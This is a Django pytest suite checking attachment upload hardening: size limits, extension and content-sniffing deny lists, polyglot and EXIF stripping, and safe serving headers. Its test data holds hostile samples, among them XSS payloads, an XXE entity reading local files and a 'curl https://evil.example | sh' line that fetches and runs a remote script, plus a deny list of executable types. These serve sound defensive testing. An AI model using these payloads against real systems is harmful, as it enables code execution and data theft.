"""Uploads hardening: size limit, a deny list by name and by sniffed content, downloads only
through the access-checked view, images shown inline only as Pillow's re-encoded copy."""

from __future__ import annotations

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from rest_framework.test import APIClient

from tests.factories import AgentFactory, MessageFactory, TeamFactory, TicketFactory, png_bytes
from tickets import services
from tickets.forms import HelpForm
from tickets.mail.attachments import sniff_content_type
from tickets.models import Attachment

pytestmark = pytest.mark.django_db

HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24


@pytest.fixture
def ticket(team, category, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return TicketFactory(team=team, category=category)


def add(ticket, name, data):
    return services.attachment_add(ticket=ticket, message=None, name=name, data=data)


def jpeg_with_exif() -> bytes:
    image = Image.new("RGB", (8, 8), "blue")
    exif = Image.Exif()
    exif[0x010E] = "home address: 1 Secret Lane"  # ImageDescription
    exif[0x013B] = "Maya Chen"  # Artist
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes(), comment=b"camera serial 1234")
    return out.getvalue()


# --- the rules ---------------------------------------------------------------------------


def test_size_limit(ticket, settings):
    settings.FRONTLINE = {**settings.FRONTLINE, "ATTACHMENT_MAX_BYTES": 1024}
    with pytest.raises(ValidationError, match="larger than the 0.0009765"):
        add(ticket, "big.txt", b"a" * 1025)
    assert add(ticket, "small.txt", b"a" * 1024).size == 1024


@pytest.mark.parametrize(
    "name",
    [
        "setup.exe", "run.bat", "run.cmd", "script.ps1", "app.js", "page.html", "page.HTM",
        "logo.svg", "feed.xml", "install.sh", "macro.vbs", "tool.jar", "lib.dll", "x.hta",
        "invoice.pdf.exe", "notes.html.txt", "trailing-dot.exe.",
    ],
)  # fmt: skip
def test_denied_by_name_whatever_the_content(ticket, name):
    with pytest.raises(ValidationError, match=r"\.\w+ files are not accepted"):
        add(ticket, name, b"just some harmless text")
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("data", "sniffed"),
    [
        (b"<!DOCTYPE html><title>x</title>", "text/html"),
        (b"\n  <html><body>hi</body></html>", "text/html"),
        (b"Dear team,\n<script>fetch('/api/v1/tickets/')</script>", "text/html"),
        (b"<iframe src=https://evil.example></iframe>", "text/html"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
        (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]><x>&e;</x>',
         "application/xml"),
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "text/x-shellscript"),
        (PE, "application/x-msdownload"),
        (ELF, "application/x-executable"),
        (MACHO, "application/x-mach-binary"),
    ],
)  # fmt: skip
def test_denied_by_sniffed_content_under_a_harmless_name(ticket, settings, data, sniffed):
    # even an admin who allows every one of these types cannot let active content in
    allowed = [*settings.FRONTLINE["ATTACHMENT_ALLOWED_TYPES"], sniffed]
    settings.FRONTLINE = {**settings.FRONTLINE, "ATTACHMENT_ALLOWED_TYPES": allowed}
    assert sniff_content_type(data) == sniffed
    reason = re.escape(f"its content is {sniffed}, which is not accepted")
    with pytest.raises(ValidationError, match=reason):
        add(ticket, "notes.txt", data)


def test_plain_text_that_merely_starts_with_mz_is_text(ticket):
    assert add(ticket, "memo.txt", b"MZ Corp quarterly notes").content_type == "text/plain"


def test_fake_image_is_refused(ticket):
    with pytest.raises(ValidationError, match="could not be read"):
        add(ticket, "shot.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)


def test_polyglot_png_with_html_tail_previews_as_a_clean_png(ticket):
    original = png_bytes((3, 2), "green")
    polyglot = original + HTML_TAIL
    att = add(ticket, "shot.png", polyglot)
    assert att.content_type == "image/png"  # it is a PNG, and is stored as sent
    with att.file.open("rb") as f:
        assert f.read() == polyglot
    with att.preview.open("rb") as f:
        preview = f.read()
    assert b"<script" not in preview
    assert b"<html" not in preview
    image = Image.open(io.BytesIO(preview))
    image.load()
    assert (image.format, image.size) == ("PNG", (3, 2))
    assert image.convert("RGB").getpixel((0, 0)) == (0, 128, 0)
    # the preview ends where the PNG ends: nothing after IEND
    assert preview.endswith(b"IEND\xaeB`\x82")


def test_metadata_is_stripped_from_the_preview(ticket):
    data = jpeg_with_exif()
    assert b"Secret Lane" in data
    assert b"camera serial" in data
    att = add(ticket, "photo.jpg", data)
    with att.preview.open("rb") as f:
        preview = f.read()
    assert b"Secret Lane" not in preview
    assert b"camera serial" not in preview
    image = Image.open(io.BytesIO(preview))
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}


# --- serving -------------------------------------------------------------------------------


def test_preview_is_inline_clean_and_access_checked(client, ticket, agent):
    att = add(ticket, "shot.png", png_bytes() + HTML_TAIL)
    client.force_login(agent.user)
    response = client.get(reverse("tickets:attachment_preview", args=[att.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'inline; filename="shot.png"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"<script" not in response.content
    client.force_login(AgentFactory(team=TeamFactory()).user)
    assert client.get(reverse("tickets:attachment_preview", args=[att.pk])).status_code == 404


def test_original_image_is_a_download_never_inline(client, ticket, agent):
    att = add(ticket, "shot.png", png_bytes() + HTML_TAIL)
    client.force_login(agent.user)
    response = client.get(reverse("tickets:attachment", args=[att.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"


def test_non_images_have_no_preview(client, ticket, agent):
    att = add(ticket, "notes.txt", b"hello")
    client.force_login(agent.user)
    assert client.get(reverse("tickets:attachment_preview", args=[att.pk])).status_code == 404


def test_workspace_shows_the_preview_inline_and_links_the_download(client, ticket, agent):
    message = MessageFactory(ticket=ticket)
    att = services.attachment_add(ticket=ticket, message=message, name="shot.png", data=png_bytes())
    client.force_login(agent.user)
    page = client.get(reverse("tickets:detail", args=[ticket.pk])).content.decode()
    assert f'<img src="{reverse("tickets:attachment_preview", args=[att.pk])}"' in page
    assert f'href="{reverse("tickets:attachment", args=[att.pk])}" download' in page


def test_refused_upload_is_a_400_with_the_reason(ticket, agent):
    api = APIClient()
    api.force_authenticate(agent.user)
    url = f"/api/v1/tickets/{ticket.pk}/attachments/"
    for name, data, reason in [
        ("evil.exe", b"hello", ".exe files are not accepted"),
        ("notes.txt", b"<html><script>x</script></html>", "its content is text/html"),
        ("shot.png", b"\x89PNG\r\n\x1a\nnot really", "could not be read"),
    ]:
        response = api.post(url, {"file": SimpleUploadedFile(name, data)}, format="multipart")
        assert response.status_code == 400
        assert reason in response.json()["detail"][0]
    assert not Attachment.objects.exists()


def test_help_form_refuses_an_svg_with_a_message(client, category, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    response = client.post(
        reverse("help:form"),
        {
            "subject": "Hacked",
            "description": "See attached.",
            "email": "maya@users.example.org",
            "name": "Maya",
            "category": category.slug,
            "nonce": HelpForm.new_nonce(),
            "files": SimpleUploadedFile("evidence.png", b"<svg onload=alert(1)></svg>"),
        },
    )
    assert response.status_code == 400
    assert "its content is image/svg+xml" in response.content.decode()
